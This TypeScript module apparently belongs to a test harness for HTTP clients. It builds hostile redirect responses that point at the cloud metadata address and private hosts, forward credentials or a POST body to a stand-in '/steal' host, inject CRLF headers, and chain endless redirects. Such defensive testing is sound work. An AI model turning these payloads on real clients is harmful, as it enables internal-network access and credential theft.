import type { ServerResponse } from 'node:http';
import { CANARY_BODY, ELSEWHERE, METADATA_URL, type Play } from './play.ts';

/** What a case of the `redirect` family says about the answer. `origin` is the case's own. */
export function redirectPlay(words: string, origin: string): Play {
  const text = words.toLowerCase();
  const status = Number(/\b(30\d)\b/.exec(text)?.[1] ?? 302);
  const to = (location: string, recognised = true): Play => ({
    recognised,
    handle: onFirst(origin, (response) => response.writeHead(status, { location }).end()),
  });
  if (/meta refresh|javascript|html/.test(text)) return page({ 'content-type': 'text/html' });
  if (/refresh header/.test(text)) return page({ refresh: `0; url=${METADATA_URL}` });
  if (/content-location|link header|alt-svc/.test(text))
    return page({ 'content-location': METADATA_URL, link: `<${METADATA_URL}>; rel=canonical` });
  if (/crlf|newline|header injection|%0d/.test(text)) return raw(status);
  if (/post body|keeping.*body|body.*(another|other) host/.test(text))
    return { ...to(`http://${ELSEWHERE}/steal`), method: 'POST', body: CANARY_BODY };
  if (/credential|authorization|cookie|header.* kept|token/.test(text))
    return to(`http://${ELSEWHERE}/steal`);
  if (
    /loop|itself|endless|too many|max|more than|chain|\b\d+ hops|(4|four|five|ten|\d{2,}) redirects/.test(
      text,
    )
  )
    return endless(origin, /169\.254|127\.0|private|internal|metadata/.test(text));
  if (/downgrade|https (url )?to http\b/.test(text))
    return { ...to('http://allowed.example/'), url: 'https://allowed.example/redirect' };
  const port = /port\s+(\d+)/.exec(text)?.[1];
  if (port !== undefined) return to(`${origin}:${port}/`);
  if (/userinfo|user:|@/.test(text) && !/\bto\s+\S+:\/\//.test(text))
    return to(`http://allowed.example@169.254.169.254/`);
  return toNamedPlace(words, to);
}

/** The place the words name: a URL, a scheme-relative one, or an address. */
function toNamedPlace(words: string, to: (location: string, recognised?: boolean) => Play): Play {
  const url = /(?:[a-z][a-z0-9+.-]*:)?[/\\]{2}\S+|\b(?:data|javascript|gopher|file|ftp):\S+/i.exec(
    words,
  );
  if (url !== null) return to(url[0]);
  const address = /\b\d{1,3}(?:\.\d{1,3}){3}\b|\[[0-9a-f:.]+\]/i.exec(words);
  if (address !== null) return to(`http://${address[0]}/`);
  if (/localhost|loopback/i.test(words)) return to('http://localhost/');
  if (/empty location|without location/i.test(words)) return to('');
  const name = /\bto ([a-z0-9-]+(?:\.[a-z0-9-]+)+)/i.exec(words)?.[1];
  if (name !== undefined) return to(`http://${name}/`);
  if (/internal|private|inward/i.test(words)) return to('http://10.0.0.7/');
  return to(METADATA_URL, false);
}

/** Only the first request is answered so; what comes after gets a plain answer. */
function onFirst(
  origin: string,
  answer: (response: ServerResponse) => void,
): NonNullable<Play['handle']> {
  return (request, response) => {
    const first = request.url?.startsWith('/redirect') === true;
    if (first && `http://${request.headers.host}`.endsWith(origin.replace(/^https?:\/\//, '')))
      answer(response);
    else response.end('ok');
  };
}

/** A page that asks a browser, and nobody else, to go on. */
function page(headers: Readonly<Record<string, string>>): Play {
  return {
    recognised: true,
    handle: (_request, response) => {
      response.writeHead(200, headers);
      response.end(
        `<meta http-equiv="refresh" content="0;url=${METADATA_URL}"><script>location='${METADATA_URL}'</script>`,
      );
    },
  };
}

/** Line ends within the header, as bytes that no decent server writes. */
function raw(status: number): Play {
  return {
    recognised: true,
    handle: (_request, response) => {
      const location = `http://allowed.example/\rX-Injected: 1\n Host: 169.254.169.254`;
      response.socket?.end(`HTTP/1.1 ${status} Found\r\nLocation: ${location}\r\n\r\n`);
    },
  };
}

function endless(origin: string, inwardAtLast: boolean): Play {
  let count = 0;
  return {
    recognised: true,
    handle: (_request, response) => {
      count += 1;
      const inward = inwardAtLast && count >= 3;
      response.writeHead(302, {
        location: inward ? METADATA_URL : `${origin}/redirect?n=${count}`,
      });
      response.end();
    },
  };
}
